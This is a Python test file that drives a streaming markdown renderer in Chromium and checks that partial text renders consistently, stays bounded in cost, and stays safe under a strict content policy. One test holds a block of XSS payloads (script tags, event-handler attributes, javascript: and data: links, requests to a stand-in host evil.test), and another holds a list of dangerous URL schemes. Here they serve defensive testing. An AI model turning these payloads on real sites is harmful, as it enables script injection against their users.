"""lastevent/markdown in Chromium: one page however the text came, nothing taken back, little done, no foreign code."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, Request, Route, sync_playwright

from tests.js.bundles import bundled
from tests.rig.chromium import ARGS
from tests.rig.long import LONG

pytestmark = pytest.mark.browser

SITE = "http://localhost"
HTML = '<!doctype html><meta charset="utf-8"><body><script type="module" src="page.js"></script>'
POLICY = "default-src 'none'; script-src 'self'; require-trusted-types-for 'script'; trusted-types 'none'"
NOTES_REPORTS = """
window.reports = [];
addEventListener("securitypolicyviolation", (event) => reports.push(event.effectiveDirective + event.blockedURI));
"""
KB = 1024


@pytest.fixture(scope="module")
def page(chromium: str, js: Path) -> Iterator[Page]:
    """tests/js/npm/markdown.mjs in a page under the strict policy, of which it notes the reports."""
    program = bundled(js, "markdown.mjs")

    def serve(route: Route, request: Request) -> None:
        if request.url == f"{SITE}/page.js":
            route.fulfill(body=program, content_type="text/javascript")
        else:
            route.fulfill(body=HTML, content_type="text/html", headers={"Content-Security-Policy": POLICY})

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=ARGS)
        page = browser.new_page()
        page.route("**/*", serve)
        page.add_init_script(NOTES_REPORTS)
        page.goto(SITE)
        page.wait_for_function("'markdown' in window")
        yield page
        browser.close()


def shown(page: Page, text: str) -> str:
    html: str = page.evaluate("(text) => whole(text).innerHTML", text)
    return html


def shown_so_far(page: Page, text: str) -> str:
    html: str = page.evaluate(
        "(text) => { const at = document.createElement('div'); markdown(at).set(text); return at.innerHTML; }", text
    )
    return html


# -- one page however the text came --------------------------------------------------------------------------


def test_any_cuts_of_a_nasty_text_give_the_page_of_the_whole(page: Page) -> None:
    differing = "(count) => differing([...texts.NASTY, ...texts.scrambled(1, count)], [1, 2, 3, 4, 5, 6, 7])"
    assert page.evaluate(differing, 6000 if LONG else 150) == []


def test_any_cuts_of_an_answer_give_the_page_of_the_whole(page: Page) -> None:
    differing = "(count) => differing([texts.ANSWER, ...texts.answers(2, count, 1500)], [1, 4, 7, 61])"
    assert page.evaluate(differing, 200 if LONG else 5) == []


def test_any_cuts_of_a_long_block_give_the_page_of_the_whole(page: Page) -> None:
    differing = "([length, sizes]) => differing(Object.values(texts.long(length)), sizes)"
    assert page.evaluate(differing, [20 * KB, [7, 97, 1500]] if LONG else [6 * KB, [97, 1500]]) == []


def test_the_whole_is_what_marked_reads(page: Page) -> None:
    differing = "(count) => texts.answers(3, count, 2000).filter((text) => spaced(whole(text)) !== asMarked(text))"
    assert page.evaluate(differing, 200 if LONG else 15) == []


# -- nothing taken back --------------------------------------------------------------------------------------


@pytest.mark.parametrize("size", [1, 4])
def test_no_character_of_an_answer_is_shown_and_taken_back_or_put_in_later(page: Page, size: int) -> None:
    seen = page.evaluate("(size) => takenBack(texts.ANSWER, size)", size)
    assert seen["updates"] > 300
    assert (seen["flashes"], seen["inserted"]) == (0, 0)


def test_no_character_of_any_answer_is_shown_and_taken_back(page: Page) -> None:
    flashing = "(count) => texts.answers(4, count, 1500).filter((text) => takenBack(text, 4).flashes)"
    assert page.evaluate(flashing, 200 if LONG else 8) == []


def test_what_is_final_is_never_touched_again(page: Page) -> None:
    answers = "(count) => [texts.ANSWER, ...texts.answers(5, count, 1500)].filter((text) => touched(text, 5))"
    assert page.evaluate(answers, 50 if LONG else 4) == []
    nasty = "(count) => [...texts.NASTY, ...texts.scrambled(6, count)].filter((text) => touched(text, 1))"
    assert page.evaluate(nasty, 1000 if LONG else 50) == []


def test_with_the_line_of_css_nothing_moves_and_without_it_columns_do(page: Page) -> None:
    text = (
        "texts.ANSWER"
        if LONG
        else "texts.ANSWER.slice(texts.ANSWER.indexOf('3. Stop'), texts.ANSWER.indexOf('Another'))"
    )
    assert page.evaluate(f"shift({text}, 7)") > 0
    page.evaluate("document.adoptedStyleSheets.push(new CSSStyleSheet())")
    page.evaluate("document.adoptedStyleSheets[0].replaceSync('table { table-layout: fixed; width: 100% }')")
    assert page.evaluate(f"shift({text}, 7)") == 0


def test_what_is_selected_stays_selected_while_its_text_grows(page: Page) -> None:
    assert (
        page.evaluate("""() => {
        const at = document.body.appendChild(document.createElement("div"));
        const view = markdown(at);
        view.set("some **words**, and mo");
        getSelection().setBaseAndExtent(at.querySelector("strong").firstChild, 0, at.firstChild.lastChild, 5);
        view.set("some **words**, and more of *them*\\n\\nand");
        const selected = String(getSelection());
        at.remove();
        return selected;
    }""")
        == "words, and"
    )


SO_FAR = {
    "see **the": "<p>see <strong>the</strong></p>",
    "see **the *very": "<p>see <strong>the <em>very</em></strong></p>",
    "see **": "<p>see</p>",
    "see `the": "<p>see <code>the</code></p>",
    "see [the": "<p>see the</p>",
    "see [the *text*](https://ex.com/a": "<p>see the <em>text</em></p>",
    "see ![the": "<p>see the</p>",
    "see https://ex.co": "<p>see https://ex.co</p>",
    "see **https://ex.co": "<p>see <strong>https://ex.co</strong></p>",
    "see <https://ex.co": "<p>see</p>",
    "5 * 3": "<p>5 * 3</p>",
    "2*3": "<p>2*3</p>",
    "about ~5": "<p>about ~5</p>",
    "snake_case": "<p>snake_case</p>",
    "a\n=": "<p>a</p>",
    "a\n-": "<p>a</p>",
    "a\n1": "<p>a</p>",
    "#": "",
    "# ": "",
    "# a #": "<h1>a</h1>",
    "-": "",
    "- [": "<ul><li></li></ul>",
    "- [x] ": "<ul><li></li></ul>",
    "- a\n  -": "<ul><li>a</li></ul>",
    "> a\n>": "<blockquote><p>a</p></blockquote>",
    "```js": "",
    "```js\na\nb": '<pre><code class="language-js">a\n</code></pre>',
    "| a | b |": "",
    "a | b\n--": "<p>a</p>",
    "[a]: /b": "",
    "a\\": "<p>a</p>",
    "AT&am": "<p>AT</p>",
    "a\ud83d": "<p>a</p>",
    "a\r": "<p>a</p>",
}


@pytest.mark.parametrize("so_far", SO_FAR)
def test_what_may_be_syntax_is_held_back_and_what_is_open_is_closed(page: Page, so_far: str) -> None:
    assert shown_so_far(page, so_far) == SO_FAR[so_far]


def test_cells_show_as_they_come_but_where_each_character_would_move_the_others(page: Page) -> None:
    begun = "| a | b |\n|---|--:|\n| **c** | d"
    assert shown_so_far(page, begun[:-6]).count("<td><strong>c</strong></td>") == 1
    assert '<td align="right"></td>' in shown_so_far(page, begun)
    assert '<td align="right">d</td>' in shown_so_far(page, begun + " |\n")


def test_a_list_that_turns_out_loose_stays_as_it_was_shown(page: Page) -> None:
    assert shown(page, "- a\n- b") == "<ul><li>a</li><li>b</li></ul>"
    assert shown(page, "- a\n\n- b\n\n  c") == "<ul><li>a</li><li>b<p>c</p></li></ul>"


def test_a_text_that_does_not_go_on_begins_anew(page: Page) -> None:
    seen = page.evaluate("""() => {
        const at = document.createElement("div");
        at.append("before");
        const view = markdown(at);
        return ["", "**a", "**a**", "- b", "- b", "- bc", "end", "end", "- bc", "- bcd", ""].map((text) => {
            text === "end" ? view.end() : view.set(text);
            return at.innerHTML;
        });
    }""")
    bold = "<p><strong>a</strong></p>"
    first, second, third = (f"<ul><li>{text}</li></ul>" for text in ("b", "bc", "bcd"))
    assert seen == ["", bold, bold, first, first, second, second, second, second, third, ""]


def test_an_app_may_change_what_is_final(page: Page) -> None:
    html = page.evaluate("""() => {
        const at = document.createElement("div");
        const view = markdown(at);
        view.set("```mermaid\\na\\n```\\n\\n# b\\n\\nc");
        at.querySelector("pre").replaceWith("drawing");
        at.querySelector("h1").after("more");
        view.set("```mermaid\\na\\n```\\n\\n# b\\n\\nc *d*\\n\\n- e");
        view.end();
        return at.innerHTML;
    }""")
    assert html == "drawing<h1>b</h1>more<p>c <em>d</em></p><ul><li>e</li></ul>"


# -- little done ---------------------------------------------------------------------------------------------


def test_an_update_reads_and_changes_a_bounded_part_of_a_block_of_any_kind(page: Page) -> None:
    """The bound is met only where more than thirty markers are open at once."""
    costs = "(length) => Object.entries(texts.long(length)).map(([kind, text]) => [kind, cost(text, 61)])"
    costs_of_kinds = page.evaluate(costs, (60 if LONG else 12) * KB)
    assert len(costs_of_kinds) > 40
    for kind, quarters in costs_of_kinds:
        assert max(quarter["lexed"] for quarter in quarters) <= 16 * KB, kind
        assert max(quarter["changes"] for quarter in quarters) <= 300, kind


def test_an_update_of_an_answer_reads_and_changes_little_to_its_end(page: Page) -> None:
    quarters = page.evaluate("(length) => cost(texts.answers(7, 1, length)[0], 61)", 60 * KB)
    for quarter in quarters:
        assert quarter["lexed"] <= 2 * KB
        assert quarter["changes"] <= 50


# -- nothing of others ---------------------------------------------------------------------------------------

SCRIPT = "javascript:window.reports.push(1)"
ADDRESSES = {
    "https://ex.com/a": "https://ex.com/a",
    "HTTP://ex.com": "HTTP://ex.com",
    "mailto:a@b.c": "mailto:a@b.c",
    "#part": "#part",
    "/path?q": "/path?q",
    "/": "/",
    "/&#9;/ex.com": "/&#9;/ex.com",  # nobody reads a tab out of it
    **dict.fromkeys(["//ex.com", "/\\ex.com", "\\\\ex.com", "</\t/ex.com>", "< //ex.com>", "path", "?q", "", "ex.com"]),
    **dict.fromkeys(
        [SCRIPT, SCRIPT.upper(), "<java\tscript:x>", "<\x01javascript:x>", "< javascript:x>", "vbscript:x"]
    ),
    **dict.fromkeys(["&#106;avascript:x", "javascript&colon;x", "jav&#x0A;ascript:x", "data:text/html,x", "blob:x"]),
    **dict.fromkeys(["file:///x", "ftp://ex.com", "https:ex.com", "https:/ex.com", "https:\\\\ex.com", "intent://x"]),
}


@pytest.mark.parametrize("form", ["[a]({})", "![a]({})", "[a]: {}\n\n[a]", "[![a]({})](/x)"])
def test_a_link_has_an_address_of_the_web_of_mail_or_of_the_page(page: Page, form: str) -> None:
    links = "(text) => [...whole(text).querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.rel])"
    for address, allowed in ADDRESSES.items():
        found = page.evaluate(links, form.format(address))
        wanted = "/x" if "(/x)" in form else allowed
        assert found == ([[wanted, "noopener noreferrer"]] if wanted else []), address


HOSTILE = f"""
<script>reports.push(1)</script><img src=x onerror="reports.push(1)"><svg onload="reports.push(1)">

<iframe srcdoc="<script>parent.reports.push(1)</script>"></iframe><base href="https://evil.test/">

<div onclick="reports.push(1)" style="background: url(https://evil.test/a)">a</div>

![a](https://evil.test/pixel.png?what=they-said) ![b](x "onerror=reports.push(1)") [c]({SCRIPT}) <{SCRIPT}>

[e](https://ex.com" onmouseover="reports.push\\(1\\)) [f](https://ex.com '"><script>reports.push(1)</script>')

[d](data:text/html,x) **<b onclick=x>** <style>@import "https://evil.test/b";</style>

```"><script>reports.push(1)</script>
<script>reports.push(1)</script>
```

``` js" onclick="reports.push(1)
```

| <img src=https://evil.test/c onerror=reports.push(1)> | a |
|---|:-:|
| <b onclick=x> | [a](https://evil.test/d) |

- [x" onclick="reports.push(1)] a
- [{SCRIPT}]({SCRIPT})

[g]: {SCRIPT} "onclick"

[g] [g][g] ![g] <a href="{SCRIPT}">a</a> &lt;script&gt;reports.push(1)&lt;/script&gt;

<form action="https://evil.test"><button>
"""
ELEMENTS = {"a", "code", "li", "p", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"}


def test_hostile_markdown_under_the_strict_policy_does_nothing(page: Page) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    elements, attributes, addresses = page.evaluate(
        """async (text) => {
            const at = document.body.appendChild(document.createElement("div"));
            inPieces(text, 3, undefined, at);
            const all = [...at.querySelectorAll("*")];
            for (const element of all) if (element.localName !== "a") element.click();
            await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));
            at.remove();
            const attributes = all.flatMap((element) => element.getAttributeNames());
            return [all.map(({ localName }) => localName), attributes, all.flatMap((element) => element.href ?? [])];
        }""",
        HOSTILE,
    )
    assert set(elements) == ELEMENTS
    assert set(attributes) == {"align", "class", "href", "rel", "title"}
    assert addresses
    assert all(address.startswith("https://") for address in addresses)
    assert asked == []
    assert page.evaluate("reports") == []


@pytest.mark.parametrize("space", [" ", "\u00a0", "\u2028", "\u3000"])
def test_thousands_of_spaces_within_a_paragraph_come_to_an_end(page: Page, space: str) -> None:
    """As a model writes them that has lost its way."""
    text = page.evaluate("(text) => whole(text).textContent", "a" + space * 20_000 + "b")
    assert text.split() == ["a", "b"]


def test_html_is_shown_as_it_is_written(page: Page) -> None:
    inline, block = "<b>a</b> *c*", "<div>\n*d*\n</div>"
    assert shown(page, inline) == "<p>&lt;b&gt;a&lt;/b&gt; <em>c</em></p>"
    assert shown(page, block) == "<p>&lt;div&gt;\n*d*\n&lt;/div&gt;</p>"


def test_an_apps_own_settings_of_marked_change_nothing(page: Page) -> None:
    page.evaluate("void setOptions({ breaks: true, gfm: false })")
    assert shown(page, "a\nb ~~c~~") == "<p>a\nb <del>c</del></p>"
